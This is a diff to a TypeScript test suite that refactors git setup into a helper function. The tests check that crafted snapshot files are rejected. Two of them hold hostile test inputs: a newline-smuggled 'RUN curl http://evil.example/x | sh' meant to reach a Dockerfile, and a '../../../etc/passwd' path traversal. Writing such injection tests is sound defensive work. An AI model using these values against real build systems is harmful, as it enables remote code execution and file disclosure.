@@ -16,6 +16,18 @@ beforeAll(() => {
 });
 afterAll(() => rmSync(work, { recursive: true, force: true }));
 
+/** A git repository with one committed file, for snapshots that point at a real commit. */
+function repoWithOneCommit(name: string): { repo: string; commit: string } {
+  const repo = join(work, name);
+  mkdirSync(repo);
+  const git = (...args: string[]) => execFileSync('git', ['-C', repo, '-c', 'user.email=t@e', '-c', 'user.name=t', ...args], { encoding: 'utf8' });
+  git('init', '-q');
+  writeFileSync(join(repo, 'a.txt'), 'a');
+  git('add', '-A');
+  git('commit', '-qm', 'x');
+  return { repo, commit: git('rev-parse', 'HEAD').trim() };
+}
+
 function listFiles(dir: string, prefix = ''): string[] {
   return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? listFiles(join(dir, e.name), `${prefix}${e.name}/`) : [`${prefix}${e.name}`])).sort();
 }
@@ -58,13 +70,7 @@ describe('crafted snapshots are refused before anything is written', () => {
 
   it('refuses a patch_file with a line break, which could otherwise reach a Dockerfile comment', async () => {
     const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
-    const repo = join(work, 'newline-repo');
-    mkdirSync(repo);
-    execFileSync('git', ['-C', repo, 'init', '-q']);
-    writeFileSync(join(repo, 'a.txt'), 'a');
-    execFileSync('git', ['-C', repo, '-c', 'user.email=t@e', '-c', 'user.name=t', 'add', '-A']);
-    execFileSync('git', ['-C', repo, '-c', 'user.email=t@e', '-c', 'user.name=t', 'commit', '-qm', 'x']);
-    const commit = execFileSync('git', ['-C', repo, 'rev-parse', 'HEAD'], { encoding: 'utf8' }).trim();
+    const { repo, commit } = repoWithOneCommit('newline-repo');
     snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: 'x\nRUN curl http://evil.example/x | sh\n#', untracked: [] } };
     const dir = join(work, 'newline');
     mkdirSync(dir);
@@ -77,13 +83,8 @@ describe('crafted snapshots are refused before anything is written', () => {
 
   it('refuses a patch_file that points outside the snapshot folder', async () => {
     const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
-    const repo = join(work, 'outside-repo');
-    mkdirSync(repo);
-    execFileSync('git', ['-C', repo, 'init', '-q']);
-    writeFileSync(join(repo, 'a.txt'), 'a');
-    execFileSync('git', ['-C', repo, '-c', 'user.email=t@e', '-c', 'user.name=t', 'add', '-A']);
-    execFileSync('git', ['-C', repo, '-c', 'user.email=t@e', '-c', 'user.name=t', 'commit', '-qm', 'x']);
-    snapshot.code = { path: repo, git: { commit: execFileSync('git', ['-C', repo, 'rev-parse', 'HEAD'], { encoding: 'utf8' }).trim(), branch: null, remote_url: null, dirty: true, patch_file: '../../../etc/passwd', untracked: [] } };
+    const { repo, commit } = repoWithOneCommit('outside-repo');
+    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: '../../../etc/passwd', untracked: [] } };
     const dir = join(work, 'escape');
     mkdirSync(dir);
     writeFileSync(join(dir, 'snapshot.yaml'), YAML.stringify(snapshot));
